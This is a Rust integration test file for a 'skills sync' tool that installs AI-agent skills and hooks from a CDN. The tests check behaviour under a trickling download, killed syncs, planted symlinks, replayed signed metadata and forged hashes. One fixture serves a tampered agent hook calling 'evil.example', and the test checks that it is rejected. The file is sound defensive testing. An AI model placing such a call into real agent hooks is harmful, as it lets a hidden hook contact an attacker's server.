//! `skills sync` against a CDN that misbehaves and a device left in a bad state: a trickling
//! download, a killed sync's staging, a planted link, replayed or partly signed metadata.

use super::*;

const SKILLS: &str = "root/.openclaw/workspace/skills";

/// The mode bits of a path under the device (not following a link).
fn mode_of(dev: &Device, rel: &str) -> u32 {
    std::fs::symlink_metadata(dev.path(rel))
        .unwrap_or_else(|e| panic!("{rel}: {e}"))
        .permissions()
        .mode()
        & 0o7777
}

/// `skills sync` took the device lock before it fetched anything, and `--timeout` bounded only
/// silence: a CDN sending a byte every 50 ms kept every other mutating command at exit 6 for as
/// long as it liked. The download now runs without the device lock, under one deadline for the
/// whole transfer.
#[test]
fn regression_skills_sync_held_the_device_lock_while_a_trickling_cdn_sent_a_zip() {
    let mut cdn = Cdn::new(false);
    publish_standard(&mut cdn);
    let dev = Device::new(&cdn.server, LAMP, None);
    assert_eq!(sync(&dev, &[]).status.code(), Some(0));
    let installed = dev.snapshot(SKILLS);
    let state = dev.read("var/lib/osctl/skills.json").unwrap();
    // 100,000 bytes at one every 50 ms: more than an hour and a half, never silent.
    cdn.publish_reply(
        "audio",
        Reply::Trickle {
            len: 100_000,
            every_ms: 50,
        },
        "aaaaaaaaaaaa",
    );
    cdn.zip_requests();
    let started = std::time::Instant::now();
    let mut child = dev.spawn(&["--json", "skills", "sync", "--timeout", "10"]);
    skills_support::wait_for("the sync to start its download", || {
        cdn.server
            .requested()
            .contains(&"/os/skills/audio.zip".to_string())
    });
    // While the sync is stuck on its download, other commands change the device.
    let out = dev.osctl(&[
        "--lock-timeout",
        "1",
        "mcp",
        "add",
        "notion",
        "--",
        "npx",
        "-y",
        "notion-mcp",
    ]);
    assert_eq!(out.status.code(), Some(0), "mcp add: {}", stderr(&out));
    let out = dev.osctl(&["--lock-timeout", "1", "presync"]);
    assert_eq!(out.status.code(), Some(0), "presync: {}", stderr(&out));
    assert!(
        child.try_wait().unwrap().is_none(),
        "the sync was still downloading all along"
    );
    let out = child.wait_with_output().unwrap();
    assert!(
        started.elapsed() < std::time::Duration::from_secs(90),
        "the sync gave up at its deadline, not when the CDN finished"
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json_of(&out);
    let audio = doc["skills"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "audio")
        .unwrap()
        .clone();
    assert_eq!(audio["error"]["code"], "download_timeout", "{audio}");
    let message = audio["error"]["message"].as_str().unwrap();
    assert!(message.contains("body included"), "{message}");
    assert!(message.contains("10 s"), "{message}");
    assert_eq!(doc["error"]["code"], "skills_failed");
    assert_eq!(dev.snapshot(SKILLS), installed, "nothing half-installed");
    assert_eq!(dev.read("var/lib/osctl/skills.json").unwrap(), state);
    assert!(!dev.path("var/lib/osctl/skills-staging").exists());
    assert!(
        dev.read("root/.openclaw/openclaw.json")
            .unwrap()
            .contains("notion"),
        "the mcp add that ran meanwhile stays"
    );
}

/// A sync killed mid-download leaves its staging folder (here with a skill it had already
/// staged, not yet swapped in); the next sync removes it, whether it has something to download
/// or not. Staging is 0700 whatever the umask (the runs here have umask 000).
#[test]
fn regression_staging_left_by_a_killed_sync_is_cleaned_by_the_next_one() {
    let mut cdn = Cdn::new(false);
    publish_standard(&mut cdn);
    let dev = Device::new(&cdn.server, LAMP, None);
    assert_eq!(sync(&dev, &[]).status.code(), Some(0));
    let installed = dev.snapshot(SKILLS);
    let good_audio = cdn.server.reply("/os/skills/audio.zip").unwrap();
    let good_extra = cdn.server.reply("/os/skills/lamp-extra.zip").unwrap();
    let (audio_v1, extra_v1) = (
        cdn.versions["audio"].clone(),
        cdn.versions["lamp-extra"].clone(),
    );
    let staging = "var/lib/osctl/skills-staging";
    let staged = format!("{staging}/openclaw/new/audio/SKILL.md");
    for next_has_work in [false, true] {
        // audio v2 is staged first (names are synced in order), then lamp-extra trickles.
        cdn.publish("audio", &[("SKILL.md", b"# Audio v2\n")]);
        cdn.publish_reply(
            "lamp-extra",
            Reply::Trickle {
                len: 100_000,
                every_ms: 50,
            },
            "bbbbbbbbbbbb",
        );
        cdn.zip_requests();
        let mut child = dev.spawn(&["skills", "sync", "--timeout", "600"]);
        skills_support::wait_for("audio staged and lamp-extra downloading", || {
            dev.path(&staged).exists()
                && cdn
                    .server
                    .requested()
                    .contains(&"/os/skills/lamp-extra.zip".to_string())
        });
        for folder in [
            staging.to_string(),
            format!("{staging}/openclaw"),
            format!("{staging}/openclaw/new"),
        ] {
            assert_eq!(mode_of(&dev, &folder), 0o700, "{folder}");
        }
        child.kill().unwrap();
        child.wait().unwrap();
        assert!(dev.path(&staged).exists(), "a killed sync leaves debris");
        assert_eq!(dev.snapshot(SKILLS), installed, "and nothing swapped in");
        cdn.publish_reply("lamp-extra", good_extra.clone(), &extra_v1);
        if !next_has_work {
            cdn.publish_reply("audio", good_audio.clone(), &audio_v1);
        }
        let out = sync(&dev, &[]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        assert_eq!(
            json_of(&out)["changed"],
            next_has_work,
            "with work: {next_has_work}"
        );
        assert!(
            std::fs::symlink_metadata(dev.path(staging)).is_err(),
            "next sync (with work: {next_has_work}) cleaned the staging"
        );
    }
    assert_eq!(
        dev.read(&format!("{SKILLS}/audio/SKILL.md")).unwrap(),
        "# Audio v2\n"
    );
}

/// The staging folder is osctl's own: a link planted where it goes is replaced, not followed.
#[test]
fn a_planted_staging_link_is_replaced_not_followed() {
    let mut cdn = Cdn::new(false);
    publish_standard(&mut cdn);
    let dev = Device::new(&cdn.server, LAMP, None);
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("keep"), "x").unwrap();
    std::fs::create_dir_all(dev.path("var/lib/osctl")).unwrap();
    std::os::unix::fs::symlink(outside.path(), dev.path("var/lib/osctl/skills-staging")).unwrap();
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(dev.path(&format!("{SKILLS}/audio/SKILL.md")).is_file());
    let names: Vec<_> = std::fs::read_dir(outside.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, vec![std::ffi::OsString::from("keep")]);
    assert!(
        std::fs::symlink_metadata(dev.path("var/lib/osctl/skills-staging")).is_err(),
        "the link was replaced by osctl's own folder, then removed"
    );
}

/// A signed metadata document proved where it came from, not that it was current: the previous
/// release's document, replayed with its old zips, was accepted and installed again.
#[test]
fn regression_an_older_signed_metadata_document_was_accepted_again() {
    let mut cdn = Cdn::new(true);
    publish_standard(&mut cdn);
    let key = skills_support::public_key_b64(&skills_support::test_key());
    let dev = Device::new(&cdn.server, LAMP, Some(&key));
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let first_sequence = json_of(&out)["sequence"].as_u64().unwrap();
    let old_metadata = cdn.server.reply("/os/ota/metadata.json").unwrap();
    let old_zip = cdn.server.reply("/os/skills/audio.zip").unwrap();

    cdn.publish("audio", &[("SKILL.md", b"# Audio v2\n")]);
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let second_sequence = json_of(&out)["sequence"].as_u64().unwrap();
    assert!(second_sequence > first_sequence);
    let tree = dev.snapshot("root");
    let state = dev.read("var/lib/osctl/skills.json").unwrap();
    assert!(
        state.contains(&format!("\"sequence\": {second_sequence}")),
        "{state}"
    );

    // The old release, whole and validly signed, served again.
    cdn.server.set("/os/ota/metadata.json", old_metadata);
    cdn.server.set("/os/skills/audio.zip", old_zip);
    cdn.zip_requests();
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json_of(&out);
    assert_eq!(doc["error"]["code"], "metadata_downgrade", "{doc}");
    assert!(stderr(&out).contains(&format!(
        "its signed sequence {first_sequence} is older than {second_sequence}"
    )));
    assert!(cdn.zip_requests().is_empty(), "nothing downloaded");
    assert_eq!(dev.snapshot("root"), tree, "nothing touched");
    assert_eq!(dev.read("var/lib/osctl/skills.json").unwrap(), state);

    // Other content under the sequence already accepted is refused as well.
    let mut payload = cdn.payload();
    payload["sequence"] = second_sequence.into();
    payload["skills"]["dance"]["updated_at"] = "2027-01-01 00:00:00 +0000".into();
    cdn.server.set(
        "/os/ota/metadata.json",
        Reply::Ok(skills_support::signed_envelope(
            &payload,
            &skills_support::test_key(),
        )),
    );
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(json_of(&out)["error"]["code"], "metadata_downgrade");
    assert_eq!(dev.snapshot("root"), tree);

    // The next release goes through.
    cdn.publish("audio", &[("SKILL.md", b"# Audio v3\n")]);
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        dev.read(&format!("{SKILLS}/audio/SKILL.md")).unwrap(),
        "# Audio v3\n"
    );
}

/// With a signing key, openclaw's hooks (`handler.ts` is code the agent runs) were installed
/// with no integrity check at all. The signed payload now covers each hook file's sha256.
#[test]
fn regression_signed_metadata_did_not_cover_the_hooks() {
    let mut cdn = Cdn::new(true);
    publish_standard(&mut cdn);
    let key = skills_support::public_key_b64(&skills_support::test_key());
    let dev = Device::new(&cdn.server, LAMP, Some(&key));
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let handler = "root/.openclaw/workspace/hooks/turn-gate/handler.ts";
    assert_eq!(dev.read(handler).unwrap(), "export default () => {};\n");

    // A mirror serves another handler than the one signed for; a skill update comes with it.
    cdn.serve_hook_file(
        "turn-gate",
        "handler.ts",
        "fetch('https://evil.example');\n",
    );
    cdn.publish("dance", &[("SKILL.md", b"# Dance v2\n")]);
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    let doc = json_of(&out);
    assert_eq!(doc["landed"], serde_json::json!(["dance"]));
    assert_eq!(doc["not_landed"][0]["name"], "hook:turn-gate");
    assert_eq!(doc["not_landed"][0]["code"], "hash_mismatch");
    assert_eq!(dev.read(handler).unwrap(), "export default () => {};\n");

    // A signed payload that lists no hooks vouches for none: nothing is installed.
    std::fs::remove_dir_all(dev.path("root/.openclaw/workspace/hooks")).unwrap();
    cdn.hook("turn-gate", "# turn-gate\n", "export default () => {};\n");
    cdn.hook_hashes.clear();
    cdn.refresh();
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json_of(&out);
    assert_eq!(doc["not_landed"][0]["code"], "hook_not_signed", "{doc}");
    assert!(!dev.path(handler).exists());

    // Without a key, hooks are taken as served (upstream's behaviour).
    let mut plain = Cdn::new(false);
    publish_standard(&mut plain);
    plain.serve_hook_file("turn-gate", "handler.ts", "export default () => 1;\n");
    let dev = Device::new(&plain.server, LAMP, None);
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(dev.read(handler).unwrap(), "export default () => 1;\n");
}

/// A signed entry's version is a 48-bit prefix of the zip's sha256, short enough to be matched by
/// brute force: with a key, the whole sha256 is signed and checked.
#[test]
fn a_signed_skill_must_match_its_whole_signed_sha256() {
    let mut cdn = Cdn::new(true);
    publish_standard(&mut cdn);
    let key = skills_support::public_key_b64(&skills_support::test_key());
    let dev = Device::new(&cdn.server, LAMP, Some(&key));
    assert_eq!(sync(&dev, &[]).status.code(), Some(0));
    let installed = dev.snapshot(SKILLS);
    // The served zip's sha256 begins with the version, but is not the sha256 signed for.
    let zip = skills_support::skill_zip(&[("SKILL.md", b"# Audio v2\n")]);
    let version = skills_support::version_of(&zip);
    cdn.publish_raw("audio", zip, &version);
    let mut forged = version.clone();
    forged.push_str(&"0".repeat(64 - version.len()));
    cdn.sha256s.insert("audio".into(), forged);
    cdn.refresh();
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json_of(&out);
    assert_eq!(doc["not_landed"][0]["code"], "hash_mismatch", "{doc}");
    assert_eq!(dev.snapshot(SKILLS), installed);
}

/// A sync that installed six skills and failed on a seventh (a bad zip) exited 1, "failed before
/// any write". It is partly applied: exit 5, and the message and `--json` say which landed.
#[test]
fn regression_a_sync_that_installed_six_skills_and_failed_on_a_seventh_exited_1() {
    let mut cdn = Cdn::new(false);
    cdn.hook("turn-gate", "# turn-gate\n", "export default () => {};\n");
    let names = [
        "alpha",
        "bravo",
        "charlie",
        "delta",
        "password-keeper",
        "token-rotator",
    ];
    for name in names {
        let skill = format!("# {name}\n");
        let json = format!("{{\"name\": \"{name}\", \"version\": \"1.0.0\"}}");
        cdn.publish(
            name,
            &[
                ("SKILL.md", skill.as_bytes()),
                ("skill.json", json.as_bytes()),
            ],
        );
    }
    let bad = b"not a zip at all".to_vec();
    let bad_version = skills_support::version_of(&bad);
    cdn.publish_raw("zulu", bad, &bad_version);
    let dev = Device::new(&cdn.server, LAMP, None);
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    let doc = json_of(&out);
    let mut landed: Vec<String> = names.iter().map(|n| n.to_string()).collect();
    landed.push("hook:turn-gate".into());
    assert_eq!(
        doc["landed"],
        serde_json::json!(landed),
        "names shown as they are"
    );
    assert_eq!(doc["not_landed"].as_array().unwrap().len(), 1);
    assert_eq!(doc["not_landed"][0]["name"], "zulu");
    assert_eq!(doc["not_landed"][0]["code"], "bad_zip");
    assert_eq!(doc["ok"], false);
    assert_eq!(doc["error"]["code"], "skills_partly_applied");
    assert_eq!(doc["exit_code"], 5);
    let err = stderr(&out);
    assert!(
        err.contains("partly applied: 7 landed (alpha, bravo, charlie, delta, password-keeper, token-rotator, hook:turn-gate); 1 did not: zulu (bad_zip)"),
        "{err}"
    );
    let state: serde_json::Value =
        serde_json::from_str(&dev.read("var/lib/osctl/skills.json").unwrap()).unwrap();
    let recorded = &state["runtimes"]["openclaw"]["skills"];
    for name in names {
        assert!(recorded.get(name).is_some(), "{name} recorded");
    }
    assert!(recorded.get("zulu").is_none());

    // When none lands, nothing changed: exit 1.
    let out = sync(&dev, &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json_of(&out);
    assert_eq!(doc["landed"], serde_json::json!([]));
    assert_eq!(doc["error"]["code"], "skills_failed");
    assert_eq!(doc["exit_code"], 1);
}
